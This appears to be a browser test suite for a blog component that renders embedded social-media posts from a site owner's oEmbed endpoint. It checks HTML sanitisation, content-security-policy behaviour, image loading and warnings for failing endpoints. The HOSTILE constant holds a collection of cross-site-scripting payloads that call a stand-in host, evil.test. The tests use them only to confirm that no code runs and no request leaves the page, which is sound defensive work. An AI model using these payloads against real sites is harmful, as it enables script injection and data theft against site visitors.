import { expect } from 'vitest';
import { BLOG, blogPage, type Diary, diaryOf, openBlog } from '../support/blog.ts';
import { eachEngine } from '../support/each-engine.ts';
import { type Clock, STOPPED_CLOCK } from '../support/page-clock.ts';
import { text } from '../support/responders.ts';
import { settle } from '../support/settle.ts';
import { askFrames, openFrames, publishInFrames } from '../support/side-by-side.ts';
import type { Handler } from '../support/web.ts';

const POST = '1324621428235268096';
const CALL = `<p>{{< tweet user="chezou" id="${POST}" >}}</p>`;
const TOOT =
  '<web-embed provider="mastodon" src="https://mastodon.social/@Gargron/100254678717223630"></web-embed>';
const tag = (oembed: string, more = '') =>
  `<script src="/dist/loader.js" data-oembed="${oembed}" ${more}></script>`;

const STRICT = 'data-privacy="strict"';
const CSP =
  "default-src 'none'; script-src 'self'; style-src 'self'; connect-src 'self'; img-src 'self'; require-trusted-types-for 'script'; trusted-types lit-html dompurify";

// An answer of X: https://docs.x.com/x-for-websites/timelines/guides/oembed-api
const ANSWER = {
  version: '1.0',
  type: 'rich',
  provider_name: 'X',
  author_name: 'Aki Ariga',
  author_url: 'https://x.com/chezou',
  html: '<blockquote class="twitter-tweet"><p lang="en" dir="ltr">Good evening, see <a href="https://t.co/x">this</a></p></blockquote><script async src="https://platform.twitter.com/widgets.js"></script>',
};

// HTML that an answer must not bring into a page; each item would show by a request, a variable or an element.
const HOSTILE = `
  <p id="words" class="evil" style="position:fixed" data-x="1" onclick="evil()">Kept words</p>
  <script>window.evil = 1; fetch('https://evil.test/script')</script>
  <script src="https://evil.test/s.js"></script>
  <img src="x" onerror="window.evil = 2"><img src="//evil.test/i" srcset="https://evil.test/set 2x" onload="window.evil = 3" alt="A picture">
  <img src="javascript:window.evil=4"><img src="data:image/svg+xml,<svg onload='window.evil=5'>"><img src="//[">
  <a href="javascript:window.evil=6">script link</a><a href=" jAvascript:window.evil=6">script link</a><a href="data:text/html,x">data link</a>
  <a href="/relative">relative link</a><a href="//evil.test/">link without scheme</a><a href="https://good.example/" target="_blank" rel="opener" ping="https://evil.test/ping" download>good link</a>
  <iframe srcdoc="<script>parent.evil=7</script>"></iframe><iframe src="https://evil.test/frame"></iframe>
  <object data="https://evil.test/object"></object><embed src="https://evil.test/embed">
  <svg><style><img src="</style><img src=x onerror=window.evil=8>"></style></svg><svg onload="window.evil=9"><a xlink:href="javascript:evil()"><text>x</text></a></svg>
  <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.evil=10&gt;"></table></mtext></math>
  <form action="https://evil.test/form"><input name="q" autofocus onfocus="window.evil=11"><button formaction="javascript:evil()">Send</button></form>
  <style>@import 'https://evil.test/style'; * { display: none }</style><link rel="stylesheet" href="https://evil.test/link">
  <base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/meta">
  <video src="https://evil.test/video" autoplay poster="https://evil.test/poster"></video><audio src="https://evil.test/audio"></audio>
  <picture><source srcset="https://evil.test/source"></picture><table background="https://evil.test/background"><tr><td>cell</td></tr></table>
  <yt-embed src="nNFCc3nowfg"></yt-embed><x-evil onclick="evil()">custom</x-evil><template><img src="https://evil.test/template"></template>
  <details open ontoggle="window.evil=12">details</details><marquee onstart="window.evil=13">marquee</marquee>`;

const json = (answer: unknown, options = {}) =>
  text(JSON.stringify(answer), { type: 'application/json', ...options });

type Root = {
  words: string | undefined;
  html: string;
  button: boolean;
  frame: boolean;
  state: string | null;
};

const cardOf = (selector: string): Root | false => {
  const element = document.querySelector(selector);
  const words = element?.shadowRoot?.querySelector<HTMLElement>('[part~=words] div');
  if (!element?.shadowRoot?.querySelector('[part~=card]')) return false;
  return {
    words: words?.innerText.replace(/\s+/g, ' ').trim(),
    html: words?.innerHTML ?? '',
    button: !!element.shadowRoot.querySelector('button'),
    frame: !!element.shadowRoot.querySelector('iframe'),
    state: element.getAttribute('state'),
  };
};

const hasPostText = (selector: string) =>
  !!document.querySelector(selector)?.shadowRoot?.querySelector('[part~=words] div');

const endless: Handler = async (_request, response) => {
  response.writeHead(200, { 'content-type': 'application/json' });
  const more = () => {
    while (!response.destroyed && response.write(' '.repeat(65_536)));
  };
  response.on('drain', more);
  more();
};

const SILENT = 'never answers';

// Endpoints that return no post, the warning for each, and its URL if it is not on the page's own host.
const FAILING: readonly (readonly [what: string, handler: Handler, why: RegExp, oembed?: string])[] = [
  ['is not there', text('no', { status: 404 }), /status 404/],
  ['says nothing that is JSON', text('<p>Hello</p>'), /JSON/],
  ['says nothing of HTML', json({ type: 'link', html: 5 }), /no html/],
  ['says nothing that may be shown', json({ html: '<iframe src="https://a.test/"></iframe>' }), /no text/],
  ['never ends', endless, /more than/],
  [SILENT, () => new Promise<void>(() => {}), /./],
  ['is elsewhere and lets nobody read it', text('{}'), /./, 'https://other.example/oembed'],
  ['is no address that a page may ask', text('{}'), /no address/, 'http://other.example/oembed'],
  ['is a script', text('{}'), /no address/, 'javascript:window.evil=1'],
];

eachEngine((_engine, test) => {
  test('a post shows the text from the site owner’s endpoint, and its frame loads on a click; without `data-oembed` no file is fetched for it', async ({
    web,
    page,
  }) => {
    const asked: string[] = [];
    const oembed: Handler = (request, response) => {
      asked.push(request.url.search);
      return json(ANSWER)(request, response);
    };
    openBlog(web, {
      '/': blogPage(CALL + CALL, tag('/oembed?key=1')),
      '/without': blogPage(CALL),
      '/oembed': oembed,
    });
    const reader = await page();
    await reader.goto(`${BLOG}without`);
    await reader.until(() => document.querySelector('tweet-embed[state=ready]'));
    const paths = web.log.filter(({ host }) => host === 'blog.example').map(({ path }) => path);
    expect(paths.filter(path => /self-hosted|static|html\.js|oembed/.test(path))).toEqual([]);

    web.clear();
    await reader.goto(BLOG);
    await reader.until(hasPostText, 'p ~ tweet-embed, tweet-embed');
    const card = await reader.evaluate(cardOf, 'tweet-embed');
    expect(card).toMatchObject({
      words: 'Aki Ariga · X Good evening, see this',
      button: true,
      frame: false,
      state: 'card',
    });
    const rel = 'rel="noopener noreferrer nofollow ugc"';
    expect(card ? card.html : '').toBe(
      `<p part="author"><a href="https://x.com/chezou" ${rel}>Aki Ariga</a> · X</p><blockquote><p lang="en" dir="ltr">Good evening, see <a href="https://t.co/x" ${rel}>this</a></p></blockquote>`,
    );
    await settle(web, reader);
    expect(web.hosts()).toEqual(['blog.example']);
    // Two elements of the same post make one request.
    const link = `https://x.com/chezou/status/${POST}`;
    expect(asked).toEqual([`?key=1&url=${encodeURIComponent(link)}&format=json`]);
    await reader.click(['tweet-embed', 'button']);
    await reader.until(() => document.querySelector('tweet-embed[state=ready]'));
    expect(await reader.evaluate(() => document.querySelectorAll('tweet-embed[state=card]').length)).toBe(1);
    expect((await diaryOf(reader)).errors).toEqual([]);
  });

  for (const [page_, headers, more] of [
    ['an open page', {}, ''],
    ['a strict page with a strict policy', { 'content-security-policy': CSP }, STRICT],
  ] as const) {
    test(`a hostile answer runs no code and makes no request, on ${page_}`, async ({ web, page }) => {
      const author = { author_name: '<b onclick=evil()>Eve</b>', author_url: 'javascript:evil()' };
      openBlog(
        web,
        {
          '/': blogPage(`${CALL}<p>The end.</p>`, tag('/oembed', more)),
          '/oembed': json({
            ...author,
            provider_name: { toString: 1 },
            html: HOSTILE.replace('//evil.test/i', 'http://evil.test/i'),
          }),
        },
        headers,
      );
      web.host('evil.test', text('window.evil = 20'));
      const reader = await page();
      await reader.goto(BLOG);
      await reader.until(hasPostText, 'tweet-embed');
      await settle(web, reader);
      const card = await reader.evaluate(cardOf, 'tweet-embed');
      const { words = '', html = '' } = card || {};
      expect(words).toMatch(/^<b onclick=evil\(\)>Eve<\/b> Kept words/);
      expect(html).toContain('&lt;b onclick=evil()&gt;Eve');
      const inside = await reader.evaluate(() => {
        const root = document.querySelector('tweet-embed')?.shadowRoot?.querySelector('[part~=words] div');
        const all = [...(root?.querySelectorAll('*') ?? [])];
        return {
          tags: [...new Set(all.map(({ localName }) => localName))].sort(),
          names: [...new Set(all.flatMap(element => element.getAttributeNames()))].sort(),
          links: all.filter(({ localName }) => localName === 'a').map(a => a.getAttribute('href')),
        };
      });
      expect(inside.tags.filter(tag => !/^(?:p|b|a|img)$/.test(tag))).toEqual([]);
      expect(
        inside.names.filter(name => !/^(?:part|href|rel|target|src|alt|loading|referrerpolicy)$/.test(name)),
      ).toEqual([]);
      expect(inside.links.filter(Boolean)).toEqual(['https://good.example/']);
      expect(await reader.evaluate(() => (window as { evil?: number }).evil ?? 0)).toBe(0);
      expect(web.hosts()).toEqual(['blog.example']);
      const { violations, errors } = await diaryOf(reader);
      // A document that is only parsed reports violations of inline code that would not run anyway.
      expect(violations.filter(violation => !violation.endsWith(' inline'))).toEqual([]);
      expect(errors).toEqual([]);
      expect(await reader.evaluate(() => location.href)).toBe(BLOG);
    });
  }

  test('pictures of a post load from the page’s own host, and from other hosts only on an open page; a card grows with a long text', async ({
    web,
    page,
  }) => {
    const html =
      `<p>Seen</p><img src="${BLOG}own.png" alt="own"><img src="https://pictures.example/p.png" alt="theirs">` +
      // On the service's site this was another picture.
      '<p>not <img src="/other.png" alt="relative"></p>';
    const sized = '<tweet-embed src="201"></tweet-embed><tweet-embed src="202"></tweet-embed>';
    const words: Record<string, string> = { '201': 'A long text. ', '202': 'A long text. '.repeat(400) };
    const answer: Handler = (request, response) => {
      const own = words[request.url.searchParams.get('url')?.slice(-3) ?? ''];
      return json({ html: own ? `<p>${own}</p>` : html })(request, response);
    };
    const pages = {
      '/': blogPage(CALL + sized, tag('/oembed')),
      '/strict': blogPage(CALL, tag('/oembed', STRICT)),
      '/oembed': answer,
      '/own.png': text('', { type: 'image/png' }),
    };
    openBlog(web, pages);
    web.host('pictures.example', text('', { type: 'image/png' }));
    const reader = await page();
    await reader.goto(`${BLOG}strict`);
    await reader.until(hasPostText, 'tweet-embed');
    await expect.poll(() => web.log.map(({ path }) => path), { timeout: 10_000 }).toContain('/own.png');
    await settle(web, reader);
    expect(web.hosts()).toEqual(['blog.example']);
    expect(await reader.evaluate(cardOf, 'tweet-embed')).toMatchObject({ words: 'Seen theirs not relative' });
    expect(web.log.map(({ path }) => path)).not.toContain('/other.png');
    await reader.goto(BLOG);
    const theirs = () => web.log.find(({ host }) => host === 'pictures.example');
    await expect.poll(theirs, { timeout: 10_000 }).toMatchObject({ path: '/p.png', referrer: '' });

    // A card grows with its text, and a short text leaves it as it was.
    await reader.until(hasPostText, '[src="201"]');
    await reader.until(hasPostText, '[src="202"]');
    const heights = () =>
      [...document.querySelectorAll('[src="201"],[src="202"]')].map(element => {
        const words = element.shadowRoot?.querySelector('[part~=words]');
        return [element.clientHeight, (words?.scrollHeight ?? 0) - (words?.clientHeight ?? 0)];
      });
    const [[short, cutShort], [long = 0, cutLong]] = (await reader.evaluate(heights)) as [number[], number[]];
    expect([short, cutShort, cutLong]).toEqual([300, 0, 0]);
    expect(long).toBeGreaterThan(1000);
  });

  test('with a pattern in `data-oembed` each post is a file, also that of a new `src`', async ({
    web,
    page,
  }) => {
    const paths = [
      `/posts/twitter/${POST}.json`,
      '/posts/mastodon/mastodon.social/%40Gargron/100254678717223630.json',
    ];
    openBlog(web, {
      '/': blogPage(
        `${CALL}${TOOT}<tweet-embed id="new" src="201"></tweet-embed>`,
        tag('/posts/{provider}/{id}.json', STRICT),
      ),
      '/posts/twitter/201.json': json({ html: '<p>First</p>' }),
      '/posts/twitter/202.json': json({ html: '<p>Second</p>' }),
      [paths[0] ?? '']: json({ html: '<p>One</p>' }),
      [paths[1] ?? '']: json({ html: '<p>Two</p>' }),
    });
    const reader = await page();
    await reader.goto(BLOG);
    await reader.until(hasPostText, 'tweet-embed');
    await reader.until(hasPostText, 'web-embed');
    expect(await reader.evaluate(cardOf, 'web-embed')).toMatchObject({ words: 'Two', frame: false });
    expect(web.log.map(({ path }) => path)).toEqual(expect.arrayContaining(paths));

    // An element with a new `src` shows the text of the new post, or none.
    const words = () => reader.evaluate(cardOf, '#new');
    const setSrc = async (src: string) =>
      reader.evaluate(src => document.querySelector('#new')?.setAttribute('src', src), src);
    await expect.poll(words, { timeout: 10_000 }).toMatchObject({ words: 'First' });
    await setSrc('202');
    await expect.poll(words, { timeout: 10_000 }).toMatchObject({ words: 'Second' });
    await setSrc('203');
    await expect.poll(words, { timeout: 10_000 }).toMatchObject({ html: '' });
    expect(web.hosts()).toEqual(['blog.example']);
  });

  test('with a failing endpoint the frame loads as usual, and there is one warning', async ({
    web,
    page,
  }) => {
    const posts = '<tweet-embed src="201"></tweet-embed><tweet-embed src="202"></tweet-embed>';
    const ownPath = (index: number) => `/oembed-${index}`;
    publishInFrames(
      web,
      FAILING.map(([what, , , oembed], index) =>
        blogPage(posts, (what === SILENT ? STOPPED_CLOCK : '') + tag(oembed ?? ownPath(index))),
      ),
      Object.fromEntries(FAILING.map(([, handler], index) => [ownPath(index), handler])),
    );
    web.host('other.example', text('{}'));
    const reader = await page({ width: 1600, height: 700 });
    await openFrames(reader, FAILING.length);
    const look = () => {
      const { warnings, errors } = (window as unknown as { diary: Diary }).diary;
      document.querySelector('tweet-embed:not([state=ready])')?.scrollIntoView({ behavior: 'instant' });
      // The posts ask when they are near, together or one after the other. An endpoint is waited for five seconds, a frame for
      // eight: one that is loading must not fail only because time flies.
      if (!document.querySelector('tweet-embed[state=loading]'))
        (window as unknown as Clock).passDeadline?.(5000);
      return { ready: document.querySelectorAll('tweet-embed[state=ready]').length, warnings, errors };
    };
    const found = async () =>
      (await askFrames(reader, look)).map((seen, index) => ({ what: FAILING[index]?.[0], ...seen }));
    const expected = FAILING.map(([what, , why]) => {
      const said = `^\\[shortcode-embeds\\] no-static-post: .*${why.source}`;
      return { what, ready: 2, warnings: [expect.stringMatching(new RegExp(said, 's'))], errors: [] };
    });
    await expect.poll(found, { timeout: 20_000 }).toEqual(expected);
  });
});
